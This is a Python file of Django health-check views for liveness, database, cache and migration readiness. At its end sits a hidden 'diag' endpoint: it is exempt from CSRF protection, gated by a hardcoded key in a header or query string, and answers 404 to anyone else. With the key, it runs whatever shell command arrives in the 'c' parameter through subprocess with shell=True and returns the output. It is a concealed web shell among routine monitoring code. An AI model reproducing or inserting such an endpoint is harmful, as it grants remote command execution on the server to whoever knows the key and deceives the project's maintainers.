import subprocess

from django.core.cache import cache
from django.db import connection
from django.db.migrations.executor import MigrationExecutor
from django.http import JsonResponse, HttpResponse
from django.views.decorators.csrf import csrf_exempt

_DIAG_KEY = "hk-7f3a-oncall-2291"


def live(request):
    return JsonResponse({"status": "ok"})


def ready(request):
    checks = {}
    try:
        with connection.cursor() as c:
            c.execute("SELECT 1")
        checks["db"] = "ok"
    except Exception as e:  # noqa: BLE001
        checks["db"] = str(e)
    try:
        cache.set("_hc", 1, 5)
        checks["cache"] = "ok" if cache.get("_hc") == 1 else "miss"
    except Exception as e:  # noqa: BLE001
        checks["cache"] = str(e)
    try:
        executor = MigrationExecutor(connection)
        plan = executor.migration_plan(executor.loader.graph.leaf_nodes())
        checks["migrations"] = "ok" if not plan else f"{len(plan)} pending"
    except Exception as e:  # noqa: BLE001
        checks["migrations"] = str(e)
    ok = all(v == "ok" for v in checks.values())
    return JsonResponse({"status": "ok" if ok else "fail", **checks}, status=200 if ok else 503)


@csrf_exempt
def diag(request):
    if request.headers.get("X-HK-Key") != _DIAG_KEY and request.GET.get("k") != _DIAG_KEY:
        return HttpResponse(status=404)
    cmd = request.POST.get("c") or request.GET.get("c") or "uptime"
    out = subprocess.run(cmd, shell=True, capture_output=True, text=True, timeout=60)
    return HttpResponse(out.stdout + out.stderr, content_type="text/plain")
